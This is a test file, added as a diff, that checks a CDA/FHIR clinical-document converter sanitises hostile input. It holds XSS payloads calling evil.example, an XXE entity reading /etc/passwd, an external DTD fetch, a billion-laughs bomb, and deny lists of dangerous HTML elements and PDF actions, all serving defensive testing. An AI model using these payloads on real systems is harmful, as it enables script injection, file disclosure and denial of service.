@@ -1,0 +1,123 @@
+// @vitest-environment node
+import { JSDOM } from 'jsdom';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { cda, dot, section, structured } from './testing/cda.ts';
+import { startConversion, type ConversionServer } from './testing/server.ts';
+
+let server: ConversionServer;
+beforeAll(async () => {
+  server = await startConversion();
+});
+afterAll(() => server.close());
+
+const service = '/epr/v1/Conversion?locale=de-ch';
+const type = { 'content-type': 'text/xml' };
+const evil = `
+  <script>alert(1)</script><script src="https://evil.example/x.js"/>
+  <style>body { background: url(https://evil.example/css) }</style>
+  <link rel="stylesheet" href="https://evil.example/a.css"/><base href="https://evil.example/"/>
+  <meta http-equiv="refresh" content="0;url=https://evil.example/"/>
+  <p onclick="alert(2)" style="background:url(https://evil.example/s)" onmouseover="alert(3)">Text <b onload="alert(4)">fett</b></p>
+  <img src="https://evil.example/pixel.png" onerror="alert(5)"/><img src="data:image/svg+xml;base64,PHN2Zy8+"/>
+  <img src="data:image/png;base64,${dot}" alt="&quot; onerror=&quot;alert(6)"/>
+  <a href="javascript:alert(7)">Klick</a> <a href=" JavaScript:alert(8)">Klack</a> <a href="https://evil.example/?a&quot;&lt;b">weg</a>
+  <iframe src="https://evil.example/"/><object data="https://evil.example/"/><embed src="https://evil.example/"/>
+  <form action="https://evil.example/"><input name="password" value="eingabe"/></form>
+  <svg xmlns="http://www.w3.org/2000/svg"><script>alert(9)</script><image href="https://evil.example/i"/></svg>
+  <video src="https://evil.example/v" poster="https://evil.example/p"/>
+  <unknown onfocus="alert(10)">bleibt</unknown> &lt;script&gt;alert(11)&lt;/script&gt;`;
+
+const fhir = (
+  text: string,
+): string => `<Bundle xmlns="http://hl7.org/fhir"><type value="document"/><entry><resource><Composition>
+  <status value="final"/><type><text value="&lt;img src=x onerror=alert(0)&gt;"/></type><date value="2026"/><author><display value="&quot;&gt;&lt;script&gt;"/></author>
+  <title value="&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"/>
+  <section><title value="&lt;b&gt;"/><text><status value="additional"/><div xmlns="http://www.w3.org/1999/xhtml">${text}</div></text></section>
+  </Composition></resource></entry></Bundle>`;
+
+describe.each([
+  [
+    'CDA',
+    (text: string) =>
+      cda(structured(section(text, { title: '&lt;script&gt;alert(0)&lt;/script&gt;' })), {
+        language: 'de&quot;&gt;&lt;x',
+      }),
+  ],
+  ['FHIR', fhir],
+])('a hostile %s', (_name, write) => {
+  it('[COM-06] leaves nothing that runs, and nothing that loads', async () => {
+    const answer = await server.post(service, write(evil), { ...type, accept: 'text/html' });
+    expect(answer.status).toBe(200);
+    const { document } = new JSDOM(answer.text).window;
+    const elements = [...document.querySelectorAll('*')];
+    const dangerous =
+      'script, link, base, iframe, object, embed, form, input, svg, video, audio, a, meta[http-equiv], [style], [srcset]';
+    expect([...document.querySelectorAll(dangerous)].map(({ outerHTML }) => outerHTML)).toEqual([]);
+    expect(document.querySelectorAll('style').length).toBe(1);
+    const attributes = elements.flatMap((one) => [...one.attributes].map(({ name, value }) => [name, value] as const));
+    expect(attributes.filter(([name]) => name.startsWith('on') || name === 'href')).toEqual([]);
+    const sources = attributes.filter(([name]) => ['src', 'data', 'action', 'poster'].includes(name));
+    expect(sources.every(([, value]) => value.startsWith('data:image/png;base64,'))).toBe(true);
+    expect(document.querySelector('style')?.textContent).not.toContain('evil');
+    const words = document.body.textContent;
+    for (const kept of ['Text fett', 'Klick', 'bleibt', '<script>alert(11)</script>']) expect(words).toContain(kept);
+    for (const gone of ['alert(1)', 'alert(9)', 'background', 'eingabe'])
+      expect(words.replace('alert(11)', '').replace('alert(1)</script>', '')).not.toContain(gone);
+    expect(answer.headers['content-security-policy']).toMatch(/default-src 'none'.*sandbox/);
+  });
+
+  it('[COM-06] gives a PDF without actions, scripts or addresses', async () => {
+    const answer = await server.post(service, write(evil), { ...type, accept: 'application/pdf' });
+    expect(answer.status).toBe(200);
+    expect(answer.bytes.toString('latin1')).not.toMatch(/\/(?:JavaScript|JS|URI|Launch|OpenAction|EmbeddedFile|AA)\b/);
+  });
+});
+
+describe('hostile XML', () => {
+  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'bcdefghij'[i]} "${`&${'abcdefghi'[i]};`.repeat(10)}">`).join('')}]><ClinicalDocument xmlns="urn:hl7-org:v3">&j;</ClinicalDocument>`;
+  const deep = (levels: number): string =>
+    cda(structured(section('<content>'.repeat(levels) + 'tief' + '</content>'.repeat(levels))));
+
+  it.each([
+    [
+      'an external entity',
+      '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><ClinicalDocument xmlns="urn:hl7-org:v3"><title>&e;</title></ClinicalDocument>',
+      /document type/,
+    ],
+    [
+      'an external subset',
+      '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd"><ClinicalDocument xmlns="urn:hl7-org:v3"/>',
+      /document type/,
+    ],
+    ['a billion laughs', laughs, /document type/],
+    ['an undeclared entity', cda(structured(section('&nbsp;'))), /Invalid XML/],
+    ['a thousand levels', deep(1000), /nested deeper/],
+    ['half a document', cda('').slice(0, 400), /Invalid XML/],
+    ['nothing of XML', 'hello', /Invalid XML/],
+    ['bytes that are no letters', Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0xfe, 0x3c, 0x2f, 0x61, 0x3e]), /Invalid XML/],
+  ])('[COM-06] %s is refused clearly', async (_name, xml, words) => {
+    const before = performance.now();
+    const answer = await server.post(service, xml, { ...type, accept: 'text/html' });
+    expect([answer.status, answer.type]).toEqual([400, 'application/problem+json; charset=utf-8']);
+    expect((JSON.parse(answer.text) as { detail: string }).detail).toMatch(words);
+    expect(performance.now() - before).toBeLessThan(20_000);
+  });
+
+  it('[COM-06] depth that is allowed is read, in both forms', async () => {
+    for (const accept of ['text/html', 'application/pdf'])
+      expect((await server.post(service, deep(150), { ...type, accept })).status).toBe(200);
+  });
+
+  it('[COM-06] 20 MB and more are refused before anything is read', async () => {
+    const answer = await server.post(service, Buffer.alloc(21 * 1024 * 1024, 0x20), { ...type, accept: 'text/html' });
+    expect([answer.status, answer.type]).toEqual([413, 'application/problem+json; charset=utf-8']);
+  });
+
+  it('[COM-06] a wide and a long table are written, and a next document too', async () => {
+    const row = `<tr>${'<td>x</td>'.repeat(300)}</tr>`;
+    const long = `<table><tbody>${row}<tr><td colspan="9999" rowspan="-3">${'wort '.repeat(30_000)}</td></tr></tbody></table>`;
+    for (const accept of ['text/html', 'application/pdf'])
+      expect((await server.post(service, cda(structured(section(long))), { ...type, accept })).status).toBe(200);
+    expect((await server.post(service, cda(''), { ...type, accept: 'text/html' })).status).toBe(200);
+  });
+});
